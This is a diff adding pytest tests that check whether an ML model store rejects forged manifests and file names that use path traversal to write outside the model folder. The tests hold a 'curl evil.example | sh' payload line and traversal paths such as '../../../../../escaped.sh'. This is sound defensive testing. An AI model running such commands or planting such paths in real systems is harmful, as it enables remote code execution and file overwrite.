@@ -8,6 +8,7 @@ from pathlib import Path
 
 import numpy as np
 import pytest
+from sqlalchemy import update
 
 from assay.domain.labels import Region
 from assay.errors import InvalidInput, NotFound
@@ -15,12 +16,17 @@ from assay.models import (
     OnnxClassifier,
     OnnxDetector,
     add_model,
+    export_model,
     get_model,
     inspect_onnx,
     list_models,
+    model_dir,
     model_file,
 )
+from assay.models._directory import HEAD_FILE, manifest_bytes
+from assay.store.schema import models_table
 from assay.versioning import LabelRecord
+from assay.workspace import Workspace
 from evaluation.runs.runs_world import (
     WEIGHTS,
     World,
@@ -170,3 +176,48 @@ def test_model_list_names_the_commit_a_bare_dataset_name_stood_for(
     row = next(line for line in out.splitlines() if "bare-clf@1" in line)
     assert row.rstrip(" │").endswith(f"floods@{w.commit[:12]}")
     assert info.trained_on_ref() == f"floods@{w.commit}"
+
+
+@pytest.mark.parametrize("where", ["relative", "absolute"])
+def test_a_manifest_naming_a_file_outside_the_model_writes_nothing_there(
+    ws: Workspace, tmp_path: Path, where: str
+) -> None:
+    # A database writer (who can also store a blob) points a model at a manifest of their
+    # own: materialising the model must not write a file of their choosing anywhere else,
+    # such as the audit key, ~/.bashrc or ~/.ssh/authorized_keys.
+    head = tmp_path / "head"
+    head.mkdir()
+    (head / HEAD_FILE).write_text(json.dumps({"classes": ["dry", "flooded"], "embedder": "e5"}))
+    info = add_model(ws, "damage-head", head)
+    target = tmp_path / "escaped.sh"
+    name = "../../../../../escaped.sh" if where == "relative" else str(target)
+    assert (ws.root / "cache" / "models" / "x" / name).resolve() == target
+    payload = b"curl evil.example | sh\n"
+    manifest = [{"path": name, "sha256": ws.blobs.put_bytes(payload), "size": len(payload)}]
+    forged = ws.blobs.put_bytes(manifest_bytes(manifest))
+    with ws.db.begin() as conn:
+        conn.execute(update(models_table).where(models_table.c.id == info.id).values(sha256=forged))
+    with pytest.raises(InvalidInput) as err:
+        model_dir(ws, "damage-head")
+    assert str(err.value) == (
+        f"model damage-head@1: its manifest names {name!r}, which is not a path inside the "
+        "model's folder"
+    )
+    assert not target.exists()
+    with pytest.raises(InvalidInput, match="not a path inside the model's folder"):
+        export_model(ws, "damage-head", tmp_path / "out")
+    assert not target.exists() and not (tmp_path / "out").exists()
+
+
+def test_a_single_file_model_named_outside_its_folder_writes_nothing_there(
+    ws: Workspace, tmp_path: Path
+) -> None:
+    info = add_model(ws, "damage-clf", onnx_classifier(tmp_path / "m.onnx"))
+    name = "../../../../../escaped.onnx"
+    with ws.db.begin() as conn:
+        conn.execute(
+            update(models_table).where(models_table.c.id == info.id).values(file_name=name)
+        )
+    with pytest.raises(InvalidInput, match="not a path inside the model's folder"):
+        model_dir(ws, "damage-clf")
+    assert not (tmp_path / "escaped.onnx").exists()
